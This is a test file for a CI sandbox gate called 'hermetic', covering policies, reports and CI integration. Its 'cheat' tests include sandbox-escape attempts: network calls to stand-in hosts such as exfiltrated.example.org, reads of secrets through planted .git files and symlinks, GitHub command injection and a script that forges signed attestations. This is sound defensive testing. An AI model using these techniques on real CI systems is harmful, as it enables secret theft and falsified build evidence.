#!/usr/bin/env bats
# The gate as its users see it: hermetic gate, with steps that are honest and steps that cheat.

# shellcheck disable=SC2016,SC2030,SC2031,SC2119,SC2120 # what is quoted is for inside; each test is a shell of its own

bats_require_minimum_version 1.5.0
load sanitizers

setup() {
  mkdir -p "$BATS_TEST_TMPDIR/w"
  cd "$BATS_TEST_TMPDIR/w" || return
  unset GITHUB_ACTIONS GITHUB_SHA GITHUB_STEP_SUMMARY CI_COMMIT_SHA GITLAB_CI
  git init --quiet .
  git -c user.email=a@example.org -c user.name=a commit --quiet --allow-empty -m first
  policy=$BATS_TEST_TMPDIR/policy.yml
}

hermetic() { "$HERMETIC_PROGRAM" "$@"; }

# Header of a policy; the steps follow on standard input.
write_policy() {
  printf 'schema_version: "%s"\nscope: {default_shell: bash}\n' "${1:-1}" >"$policy"
  cat >>"$policy"
}

# Even if the sandbox failed, nothing would leave: an empty network is around it all.
in_empty_network() {
  if [ "$(id -u)" = 0 ]; then unshare --net -- "$@"; else unshare --user --map-current-user --net -- "$@"; fi
}

gate() { in_empty_network "$HERMETIC_PROGRAM" gate --policy "$policy" --out "$BATS_TEST_TMPDIR/out" "$@"; }

# One step with this command, as a file, so that nothing has to be quoted.
cheat() {
  printf '%s\n' "$2" >"cheat.$1"
  write_policy <<EOF
hermetic_steps:
  - id: cheat
    command: $1 cheat.$1
EOF
  run -1 gate
}

breached() { [[ $output == *"$1"* ]] && grep -q "\"rule\":\"$2\"" "$BATS_TEST_TMPDIR/out/report.json"; }

@test "the policy of the runbook runs unchanged" {
  mkdir -p docs/ci
  cat >docs/ci/HERMETIC_CI_POLICY.yml <<'EOF'
schema_version: "1"
scope:
  default_shell: bash
hermetic_steps:
  - id: lint
    description: looks at the sources
    command: test -d .git && echo "$NO_NETWORK_LISTEN"
    env:
      NO_NETWORK_LISTEN: "1"
    allow:
      outbound_hosts: []
      outbound_ports: []
      listen_ports: []
  - id: unit
    command: |
      mkdir -p dist
      echo built >dist/result
diagnostics:
  capture_process_tree: true
  capture_open_sockets: true
  max_log_bytes: 100000
output:
  out_dir: artifacts/governance/hermetic-ci/${sha}
EOF
  hermetic gate
  out=artifacts/governance/hermetic-ci/$(git rev-parse HEAD)
  for file in report.json report.md report.html report.sarif junit.xml attestations.intoto.jsonl \
    logs/lint/{stdout.txt,stderr.txt,events.jsonl,process_tree.json,listeners.json,network.json}; do
    [ -e "$out/$file" ]
  done
  [ "$(cat "$out/logs/lint/stdout.txt")" = 1 ]
  [ "$(cat dist/result)" = built ]
  hermetic verify-evidence "$out"
}

@test "two runs of a commit leave the same stable files, whatever the order of the steps" {
  write_policy <<'EOF'
hermetic_steps:
  - {id: one, command: echo one}
  - {id: two, command: "echo $RANDOM; date +%N"}
  - {id: three, command: "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 9))'"}
EOF
  hermetic key new ../key
  run -1 gate --key ../key
  mv ../out ../first
  run -1 gate --key ../key --jobs 3
  for file in report.json report.sarif attestations.intoto.jsonl gl-code-quality.json; do
    cmp "../first/$file" "../out/$file"
  done
  hermetic diff ../first ../out
  hermetic verify-evidence ../out --key ../key.pub
}

@test "a step that fails, fails the gate; exit codes are 0, 1 and 2" {
  write_policy <<<'hermetic_steps: [{id: good, command: "true"}]'
  gate
  write_policy <<<'hermetic_steps: [{id: bad, command: exit 7}]'
  run -1 gate
  [[ $output == *'ended with exit code 7'* ]]
  write_policy <<<'hermetic_steps: [{id: bad, comand: exit 7}]'
  run -2 gate
  [[ $output == *"policy.yml:3:28: unknown key 'comand' in 'step'"*"did you mean 'command'?"* ]]
  run -2 gate --step none
  run -2 hermetic gate --policy /no/such/file
}

@test "one step of several is run if it is named, as often as steps are named" {
  write_policy <<'EOF'
hermetic_steps:
  - {id: one, command: touch one}
  - {id: two, command: touch two}
  - {id: three, command: touch three}
EOF
  gate --step one --step three --sha v1.0
  [ -e one ] && [ ! -e two ] && [ -e three ]
  grep -q '"revision":"v1.0"' ../out/report.json
  run -2 gate --sha ../up
  [[ $output == *'cannot name a commit'* ]]
}

@test "what must fail in a step's sandbox is tried there first" {
  write_policy <<<'hermetic_steps: [{id: a, command: "true"}]'
  gate
  for probe in tcp udp dns io_uring vsock listen secret input; do
    grep -q "\"probe\":\"$probe\",\"result\":\"held\"" ../out/logs/a/manifest.json
  done
}

@test "diagnostics say how much is kept" {
  write_policy <<'EOF'
hermetic_steps:
  - {id: a, command: "head -c 5000 /dev/zero | tr '\\0' x; bash -c true", allow: {listen_ports: [8080]}}
  - id: b
    command: python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 8080)); s.listen()'
    allow: {listen_ports: [8080]}
diagnostics: {capture_process_tree: false, capture_open_sockets: false, max_log_bytes: 100}
EOF
  gate
  [ "$(wc -c <../out/logs/a/stdout.txt)" -eq 100 ]
  [ "$(cat ../out/logs/a/process_tree.json)" = '[]' ]
  [ "$(cat ../out/logs/b/listeners.json)" = '[]' ]
  sed -i 's/false, capture_open_sockets: false, max_log_bytes: 100/true, capture_open_sockets: true, max_log_bytes: 10000/' "$policy"
  gate
  [ "$(wc -c <../out/logs/a/stdout.txt)" -eq 5000 ]
  grep -q bash ../out/logs/a/process_tree.json
  grep -q 8080 ../out/logs/b/listeners.json
}

@test "errors of a policy name file, line, column and remedy" {
  while IFS='|' read -r steps message; do
    write_policy <<<"$steps"
    run -2 gate
    [[ $output == *"$message"* ]] || { echo "$steps: $output"; false; }
  done <<'EOF'
hermetic_steps: []|policy.yml:3:17: 'hermetic_steps' is empty
hermetic_steps: [{command: "true"}]|policy.yml:3:18: a step has no 'id'
hermetic_steps: [{id: ../x, command: "true"}]|policy.yml:3:23: bad id '../x'
hermetic_steps: [{id: a, command: "true"}, {id: a, command: "true"}]|policy.yml:3:44
hermetic_steps: [{id: a}]|has no 'command'
hermetic_steps: [{id: a, command: "true", allow: {outbound_hosts: ["*"]}}]|policy.yml:3:68
hermetic_steps: [{id: a, command: "true", allow: {outbound_ports: [0]}}]|policy.yml:3:68
hermetic_steps: [{id: a, command: "true", allow: {listen_ports: [70000]}}]|policy.yml:3:66
hermetic_steps: [{id: a, command: "true", needs: [b]}]|unknown key 'needs'
EOF
  printf 'schema_version: "3"\n' >"$policy"
  run -2 gate
  [[ $output == *'policy.yml:1:17: unknown schema_version'* ]]
}

@test "version 2: exceptions have an owner, a reason and an end" {
  write_policy 2 <<'EOF'
hermetic_steps:
  - id: a
    command: "true"
    allow: {exceptions: [{listen: 8080, owner: ops}]}
EOF
  run -2 gate
  [[ $output == *"policy.yml:6:26: the exception has no 'reason'"* ]]
  write_policy 2 <<'EOF'
hermetic_steps:
  - id: a
    command: "true"
    allow: {exceptions: [{listen: 8080, owner: ops, reason: tests, expires: 2020-01-31}]}
EOF
  run -2 gate
  [[ $output == *"'ops'"*'has expired on 2020-01-31'* ]]
  write_policy 2 <<'EOF'
hermetic_steps:
  - id: a
    command: python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 8080)); s.listen()'
    allow: {exceptions: [{listen: 8080, owner: ops, reason: tests, expires: 2999-01-31}]}
EOF
  gate
  grep -q '"owner":"ops"' ../out/report.json
}

@test "version 2: steps wait for those they need, and are skipped if those fail" {
  write_policy 2 <<'EOF'
hermetic_steps:
  - {id: first, command: "sleep 0.2; echo made >made"}
  - {id: second, command: cat made, needs: [first]}
  - {id: bad, command: exit 1}
  - {id: never, command: touch ran, needs: [bad]}
EOF
  run -1 gate --jobs 4
  grep -q made ../out/logs/second/stdout.txt
  [[ $output == *"needs 'bad', which did not pass"* ]]
  [ ! -e ran ]
  write_policy 2 <<<'hermetic_steps: [{id: a, command: "true", needs: [b]}, {id: b, command: "true"}]'
  run -2 gate
  [[ $output == *"which is no step above it"* ]]
}

@test "where no more threads can be had, the gate goes on with those that there are" {
  if has_sanitizer; then skip 'it needs more memory than that to start'; fi
  { echo 'hermetic_steps:'; for i in $(seq 60); do echo "  - {id: s$i, command: 'true'}"; done; } | write_policy
  (ulimit -v 400000 && gate --jobs 60)
}

@test "version 2: timeouts, limits, and a spec or target of its own" {
  write_policy 2 <<'EOF'
hermetic_steps:
  - {id: slow, command: sleep 100, timeout: 300ms}
  - {id: large, command: "head -c 2000000 /dev/zero >file", limits: {file_size: 1M}}
EOF
  run -1 gate
  [[ $output == *'slow'*'ran out of time'* ]]
  [[ $output == *'large'*'exit code 153'* ]]
  grep -q 'File size limit exceeded' ../out/logs/large/stderr.txt
  mkdir ../p
  mv "$policy" ../p/policy.yml
  policy=../p/policy.yml
  write_policy 2 <<'EOF'
hermetic_steps:
  - {id: own, spec: spec.yaml}
  - {id: target, spec: targets.yaml, target: hello}
EOF
  printf 'version: 1\ncommand: [/bin/sh, -c, "echo own; test ! -e /etc/passwd-"]\ninputs: [/usr, /bin, /lib, /lib64]\n' >../p/spec.yaml
  printf 'version: 1\ntargets: {hello: {command: [/bin/echo, target], inputs: [/usr, /bin, /lib, /lib64]}}\n' >../p/targets.yaml
  gate
  grep -q own ../out/logs/own/stdout.txt
  grep -q target ../out/logs/target/stdout.txt
}

@test "audit: nothing is denied, all is told, and no step fails for it" {
  python3 -c 'import socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); print(s.getsockname()[1], flush=True)
s.accept()' >port &
  server=$!
  for _ in {1..500}; do [ -s port ] && break || sleep 0.02; done
  write_policy 2 <<EOF
mode: audit
hermetic_steps:
  - id: a
    command: python3 -c 'import socket; socket.create_connection(("127.0.0.1", $(cat port)))'
EOF
  run -0 hermetic gate --policy "$policy" --out ../out
  wait "$server"
  [[ $output == *"connect to 127.0.0.1:$(cat port)/tcp is not allowed"* ]]
  grep -q '"assurance":"observed"' ../out/report.json
  run -2 gate --require enforced
}

# --- steps that cheat ---

@test "cheat: connect" {
  cheat python3 'import socket; socket.socket().connect_ex(("192.0.2.1", 80))'
  breached 'connect to 192.0.2.1:80/tcp' network-denied
  [[ $output == *'by /usr/bin/python3'*'cheat.python3'* ]]
}

@test "cheat: sendmsg" {
  cheat python3 'import socket
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("192.0.2.1", 9))
except OSError: pass'
  breached '192.0.2.1:9/udp' network-denied
}

@test "cheat: io_uring" {
  cheat python3 'import ctypes; ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(120))'
  breached 'asked for io_uring' socket
}

@test "cheat: DNS by UDP" {
  cheat python3 'import socket
try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
    b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1", ("192.0.2.53", 53))
except OSError: pass'
  [[ $output == *secret.example* || $output == *192.0.2.53:53* ]]
}

@test "cheat: a name is looked up" {
  cheat python3 'import socket
try: socket.getaddrinfo("exfiltrated.example.org", 443)
except OSError: pass'
  [[ $output == *exfiltrated.example.org* || $output == *:53* ]]
}

@test "cheat: a name is looked up by send(), beside a host that is allowed" {
  cat >cheat.py <<'EOF'
import socket
try: socket.gethostbyname("exfiltrated.example.org")
except OSError: pass
EOF
  write_policy <<'EOF'
hermetic_steps:
  - id: cheat
    command: /usr/bin/python3 cheat.py
    allow: {outbound_hosts: [mirror.example.org]}
EOF
  run -1 gate
  [[ $output == *exfiltrated.example.org*'by /usr/bin/python3'*'cheat.py'* ]]
}

@test "cheat: a listener on localhost" {
  cheat python3 'import socket
s = socket.socket()
try: s.bind(("127.0.0.1", 8321)); s.listen()
except OSError: pass'
  breached 8321 listener
}

@test "cheat: a child that outlives the step" {
  cheat bash 'setsid sleep 30 >/dev/null 2>&1 & disown'
  breached 'left processes running, such as s' residue # sleep, or setsid, if that was not yet it
}

@test "cheat: without an environment" {
  cheat bash 'env -i /usr/bin/python3 -c "import socket; socket.socket().connect_ex((\"192.0.2.1\", 80))"'
  breached 192.0.2.1:80 network-denied
}

@test "cheat: a static binary, and a raw system call" {
  cat >raw.c <<'EOF'
#include <netinet/in.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = 0x5000, .sin_addr = {0x010200c0}};
  int fd = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
  syscall(SYS_connect, fd, &to, sizeof to);
  return 0;
}
EOF
  cc -static -o raw raw.c
  cheat bash ./raw
  breached '192.0.2.1:80' network-denied
  [[ $output == */raw* ]]
}

@test "cheat: another interpreter" {
  cheat perl 'use Socket; socket(my $s, PF_INET, SOCK_STREAM, 0); connect($s, sockaddr_in(80, inet_aton("192.0.2.1")))'
  breached 192.0.2.1:80 network-denied
}

@test "cheat: git hooks, the evidence and the world outside the workspace stay as they are" {
  echo precious >../precious
  mkdir -p artifacts/old
  echo evidence >artifacts/old/report.json
  write_policy <<EOF
hermetic_steps:
  - id: cheat
    command: |
      echo evil >.git/hooks/pre-commit
      echo evil >$BATS_TEST_TMPDIR/precious
      echo evil >artifacts/old/report.json
      rm -rf artifacts
      mv artifacts elsewhere
      true
output: {out_dir: "artifacts/\${sha}"}
EOF
  hermetic gate --policy "$policy"
  [ ! -e .git/hooks/pre-commit ]
  [ "$(cat ../precious)" = precious ]
  [ "$(cat artifacts/old/report.json)" = evidence ]
  hermetic verify-evidence "artifacts/$(git rev-parse HEAD)"
}

# --- environment ---

@test "a step gets a small environment, and secrets only by name" {
  export AWS_SECRET_ACCESS_KEY=abcdefghij0123456789 HARMLESS=yes DATABASE_URL=postgres://u:hunter2hunter2@h/db
  write_policy <<<'hermetic_steps: [{id: a, command: env}]'
  gate
  run ! grep -e AWS -e HARMLESS -e DATABASE ../out/logs/a/stdout.txt
  grep -q '"AWS_SECRET_ACCESS_KEY"' ../out/logs/a/environment.json
  write_policy 2 <<'EOF'
hermetic_steps:
  - {id: all, command: env, environment: {mode: sanitize, deny: [OTHER]}}
  - {id: named, command: 'test "$AWS_SECRET_ACCESS_KEY" = abcdefghij0123456789', environment: {pass: [AWS_SECRET_ACCESS_KEY]}}
EOF
  export OTHER=x SNEAKY=https://user:hunter2hunter2@example.org/
  gate
  grep -q HARMLESS=yes ../out/logs/all/stdout.txt
  run ! grep -e AWS -e DATABASE -e OTHER -e SNEAKY ../out/logs/all/stdout.txt
  run ! grep -r -e hunter2hunter2 -e abcdefghij0123456789 ../out
}

@test "secrets that the policy itself gives to a step are struck out, too" {
  write_policy <<'EOF'
hermetic_steps:
  - {id: a, command: 'echo "$API_TOKEN"; cat "/none/$API_TOKEN" || true', env: {API_TOKEN: squeamish-ossifrage-42}}
EOF
  gate
  grep -q 'redacted:API_TOKEN' ../out/logs/a/stdout.txt
  run ! grep -r squeamish-ossifrage ../out
}

# --- CI systems ---

@test "GitHub gets annotations and a summary" {
  write_policy <<'EOF'
hermetic_steps:
  - {id: a, command: "python3 -c 'import socket; socket.socket().connect_ex((\"192.0.2.1\", 80))'"}
EOF
  GITHUB_ACTIONS=true GITHUB_STEP_SUMMARY=$BATS_TEST_TMPDIR/summary run -1 --separate-stderr gate
  [[ $output == *'::error file='*'policy.yml,line=4,title=hermetic gate%3A a::connect to 192.0.2.1:80/tcp was denied'* ]]
  grep -q 'hermetic gate: fail' ../summary
}

# Also by an alias, which a step of an earlier gate has made.
@test "no step leads the summary elsewhere, or holds it up" {
  write_policy <<<'hermetic_steps: [{id: a, command: "echo ran"}]'
  export GITHUB_ACTIONS=true
  mkdir ../elsewhere ../links
  ln -s ../elsewhere/summary summary
  ln -s "$PWD" ../links/here
  for place in "$PWD/summary" "$PWD/new" "$BATS_TEST_TMPDIR/links/here/new"; do
    GITHUB_STEP_SUMMARY=$place run -2 gate
    [[ $output == *"GITHUB_STEP_SUMMARY '$place'"*'inside the output'* ]]
    [ ! -e "$BATS_TEST_TMPDIR/out" ]
  done
  [ -z "$(ls -A ../elsewhere)" ]
  mkfifo ../pipe
  GITHUB_STEP_SUMMARY=$BATS_TEST_TMPDIR/pipe run -0 timeout -s KILL 60 "$HERMETIC_PROGRAM" gate --policy "$policy" --out "$BATS_TEST_TMPDIR/out"
  [[ $output == *'cannot write'*pipe* ]]
  # What other steps of the job have said stays.
  echo before >../summary
  GITHUB_STEP_SUMMARY=$BATS_TEST_TMPDIR/summary run -0 gate
  [ "$(head -n 1 ../summary)" = before ]
  grep -q 'hermetic gate: pass' ../summary
}

@test "a plain user's gate takes closed directories from its steps, too" {
  ((EUID == 0)) || skip 'every test of this file says so'
  local nobody=(setpriv --reuid=65534 --regid=65534 --clear-groups env HOME=/nonexistent)
  "${nobody[@]}" test -x "$HERMETIC_PROGRAM" || skip 'nobody may not execute the program'
  write_policy <<<'hermetic_steps: [{id: a, command: "echo ran >made"}]'
  chmod 755 "$BATS_RUN_TMPDIR" "$BATS_TEST_TMPDIR"
  chown -R 65534:65534 "$BATS_TEST_TMPDIR"
  "${nobody[@]}" "$HERMETIC_PROGRAM" gate --policy "$policy" --out "$BATS_TEST_TMPDIR/out" --sha 1234
  [ "$(cat made)" = ran ]
}

@test "no step leads the evidence of the next gate elsewhere" {
  write_policy <<EOF
hermetic_steps: [{id: a, command: "ln -sfn $BATS_TEST_TMPDIR/elsewhere/made link; ln -sfn $BATS_TEST_TMPDIR/elsewhere artifacts"}]
EOF
  mkdir ../elsewhere
  gate
  [ -L link ]
  for out in link link/deeper artifacts/out; do
    run -2 "$HERMETIC_PROGRAM" gate --policy "$policy" --out "$out" --sha 1234
    [[ $output == *'goes through the link'*'inside the workspace'* ]]
  done
  [ -z "$(ls -A ../elsewhere)" ]
}

@test "GitHub's problem matcher knows the errors of a policy" {
  write_policy <<<'hermetic_steps: [{id: bad, comand: exit 7}]'
  run -2 gate
  python3 - "$BATS_TEST_DIRNAME/../../tools/problem_matcher.json" "${lines[0]}" <<'EOF'
import json, re, sys
pattern = json.load(open(sys.argv[1]))["problemMatcher"][0]["pattern"][0]
found = re.match(pattern["regexp"], sys.argv[2])
assert found, sys.argv[2]
assert found[pattern["file"]].endswith("policy.yml") and found[pattern["line"]] == "3", found.groups()
EOF
}

@test "GitLab gets a code quality report" {
  write_policy <<<'hermetic_steps: [{id: bad, command: exit 7}]'
  run -1 gate
  python3 - ../out/gl-code-quality.json <<'EOF'
import json, sys
entries = json.load(open(sys.argv[1]))
assert [entry["severity"] for entry in entries] == ["blocker"], entries
assert entries[0]["location"]["lines"]["begin"] == 3
EOF
}

@test "Ctrl-C ends the steps and leaves nothing" {
  write_policy <<<'hermetic_steps: [{id: slow, command: "touch started; sleep 1000"}, {id: next, command: "touch next"}]'
  # A job in the background of a shell without job control ignores SIGINT: this one must not.
  "$HERMETIC_PROGRAM" gate --policy "$policy" --out ../out 3>&- &
  pid=$!
  for _ in {1..500}; do [ -e started ] && break || sleep 0.02; done
  kill -TERM "$pid"
  status=0
  wait "$pid" || status=$?
  [ "$status" -eq 1 ]
  [ ! -e next ]
  hermetic verify-evidence ../out
  [ -z "$(find .. -name '.hermetic-*')" ]
}

# A folder beside the workspace that no step should see, where /tmp is not in the way.
make_secret() {
  outside=$(mktemp -d /var/tmp/hermetic-gate-test.XXXXXX)
  mkdir -p "$outside/secret" "$outside/w"
  echo canary-of-the-test >"$outside/secret/file"
  cd "$outside/w" || return
}

teardown() {
  cd / || return
  if [ -n "${outside-}" ]; then rm -rf "$outside"; fi
}

@test "a step cannot make the next one see a folder by a .git of its own" {
  make_secret
  write_policy <<EOF
hermetic_steps:
  - {id: plant, command: "echo 'gitdir: $outside/secret' >.git"}
  - {id: look, command: "cat $outside/secret/file"}
EOF
  run -1 gate --sha 1234
  run ! grep -r canary-of-the-test "$BATS_TEST_TMPDIR/out/logs"
  # Nor by a folder in the workspace that leads on.
  rm .git
  write_policy <<EOF
hermetic_steps:
  - {id: plant, command: "mkdir fake; echo $outside/secret >fake/commondir; echo '../.git' >fake/gitdir; echo 'gitdir: fake' >.git"}
  - {id: look, command: "cat $outside/secret/file"}
EOF
  run -1 gate --sha 1234
  run ! grep -r canary-of-the-test "$BATS_TEST_TMPDIR/out/logs"
}

@test "worktrees and submodules still have their git" {
  make_secret
  git init --quiet "$outside/main"
  git -C "$outside/main" -c user.email=a@example.org -c user.name=a commit --quiet --allow-empty -m first
  git -C "$outside/main" worktree add --quiet --detach "$outside/tree"
  git -C "$outside/main" -c protocol.file.allow=always -c user.email=a@example.org -c user.name=a \
    submodule --quiet add "$BATS_TEST_TMPDIR/w/.git" sub
  write_policy <<<'hermetic_steps: [{id: git, command: git -c safe.directory=* log --oneline}]'
  for place in tree main/sub; do
    cd "$outside/$place"
    gate
    grep -q first "$BATS_TEST_TMPDIR/out/logs/git/stdout.txt"
  done
}

@test "a step cannot make the next one see a folder by a link on PATH" {
  make_secret
  mkdir tools
  write_policy <<EOF
hermetic_steps:
  - {id: plant, command: "rmdir tools; ln -s $outside/secret tools"}
  - {id: look, command: "cat $outside/secret/file"}
EOF
  PATH=$PATH:$PWD/tools run -1 gate --sha 1234
  run ! grep -r canary-of-the-test "$BATS_TEST_TMPDIR/out/logs"
}

@test "what is in a home beside its programs is not a step's" {
  make_secret
  mkdir -p "$outside/home/.local/"{bin,lib,share}
  echo canary-of-the-test >"$outside/home/.local/share/keyring"
  echo library >"$outside/home/.local/lib/library"
  write_policy <<EOF
hermetic_steps:
  - {id: needed, command: "cat $outside/home/.local/lib/library"}
  - {id: look, command: "cat $outside/home/.local/share/keyring"}
  - {id: home, command: "cat $outside/home/.local/share/keyring $outside/home/.local/lib/library"}
EOF
  HOME=$outside/home PATH=$PATH:$outside/home/.local/bin:$outside/home run -1 gate --sha 1234
  grep -q library "$BATS_TEST_TMPDIR/out/logs/needed/stdout.txt"
  run ! grep -r canary-of-the-test "$BATS_TEST_TMPDIR/out/logs"
}

@test "the spec of a step is what it was when the gate began" {
  make_secret
  mkdir policy
  policy=$PWD/policy/policy.yml
  printf 'version: 1\ninputs: [/usr, /bin, /lib, /lib64]\n' >policy/look.yaml
  write_policy 2 <<EOF
hermetic_steps:
  - {id: plant, command: "printf '%s\\n' 'version: 1' 'inputs: [$outside/secret, /usr, /bin, /lib, /lib64]' >policy/look.yaml"}
  - {id: look, spec: look.yaml, command: [/bin/cat, $outside/secret/file]}
EOF
  run -1 gate --sha 1234
  grep -q "$outside/secret" policy/look.yaml
  run ! grep -r canary-of-the-test "$BATS_TEST_TMPDIR/out/logs"
}

@test "no step sees the key, wherever it lies" {
  make_secret
  mkdir -p "$outside/tool/bin"
  hermetic key new "$outside/tool/bin/key"
  write_policy <<EOF
hermetic_steps: [{id: look, command: "cat $outside/tool/bin/key"}]
EOF
  PATH=$PATH:$outside/tool/bin run -2 gate --sha 1234 --key "$outside/tool/bin/key"
  [[ $output == *'could read'*'the key that signs'* ]]
  run ! grep -r 'PRIVATE' "$BATS_TEST_TMPDIR/out/logs"
  # Where it cannot be seen it signs.
  run -1 gate --sha 1234 --key "$outside/tool/bin/key"
  hermetic verify-evidence "$BATS_TEST_TMPDIR/out" --key "$outside/tool/bin/key.pub"
}

@test "a step with a spec of its own cannot change the evidence about others" {
  make_secret
  cat >own.yaml <<EOF
version: 1
inputs: [/usr, /bin, /lib, /lib64]
outputs: [{path: $PWD, publish: in_place, type: directory}]
EOF
  policy=$PWD/policy.yml
  cat >lie.sh <<EOF
for file in $PWD/artifacts/.hermetic-*/tree/logs/honest/stdout.txt; do echo a lie >\$file; done
echo tried
EOF
  write_policy 2 <<EOF
hermetic_steps:
  - {id: honest, command: echo the truth}
  - {id: liar, spec: own.yaml, command: [/bin/sh, $PWD/lie.sh]}
EOF
  run in_empty_network "$HERMETIC_PROGRAM" gate --policy "$policy" --out artifacts/out --sha 1234
  [ "$(cat artifacts/out/logs/honest/stdout.txt)" = 'the truth' ]
  [ "$(cat artifacts/out/logs/liar/stdout.txt)" = tried ]
  hermetic verify-evidence artifacts/out
}

@test "nothing that a step does is a command for GitHub" {
  write_policy <<'EOF'
hermetic_steps:
  - {id: cheat, command: "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 9))' '##[set-output name=passed]true' '::error::x'"}
EOF
  GITHUB_ACTIONS=true run -1 gate
  [[ $output == *'set-output name=passed'* ]]
  [[ $output != *'##['* ]]
  run ! grep -E '^[[:space:]]*::error::' <<<"$output"
}

@test "a report whose manifests say otherwise does not hold" {
  write_policy <<<'hermetic_steps: [{id: good, command: "true"}, {id: bad, command: exit 7}]'
  run -1 gate
  out=$BATS_TEST_TMPDIR/out
  hermetic verify-evidence "$out"
  # The verdict, the digests and the statements: all put right but for the manifest of the step.
  python3 - "$out" <<'FORGE'
import base64, hashlib, json, pathlib, sys
folder = pathlib.Path(sys.argv[1])
canonical = lambda document: json.dumps(document, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
digest = lambda name: hashlib.sha256((folder / name).read_bytes()).hexdigest()
report = json.loads((folder / "report.json").read_text())
report["verdict"] = "pass"
for step in report["steps"]:
    step["verdict"], step["reason"] = "pass", ""
(folder / "report.json").write_text(canonical(report))
def change(line):
    envelope = json.loads(line)
    statement = json.loads(base64.b64decode(envelope["payload"]))
    for subject in statement["subject"]:
        if (folder / subject["name"]).exists():
            subject["digest"]["sha256"] = digest(subject["name"])
    if "result" in statement["predicate"]:
        statement["predicate"].update(result="PASSED", passedTests=["good", "bad"], failedTests=[])
    envelope["payload"] = base64.b64encode(canonical(statement).encode()).decode()
    return canonical(envelope) + "\n"
file = folder / "attestations.intoto.jsonl"
file.write_text("".join(change(line) for line in file.read_text().splitlines()))
listing = json.loads((folder / "volatile.json").read_text())
listing["stable_digest"] = "sha256:" + digest("report.json")
for name in listing["files"]:
    listing["files"][name] = "sha256:" + digest(name)
(folder / "volatile.json").write_text(canonical(listing))
file = folder / "volatile.intoto.jsonl"
file.write_text("".join(change(line) for line in file.read_text().splitlines()))
FORGE
  run -1 hermetic verify-evidence "$out"
  [[ $output == *'logs/bad/manifest.json does not say what report.json says'* ]]
}
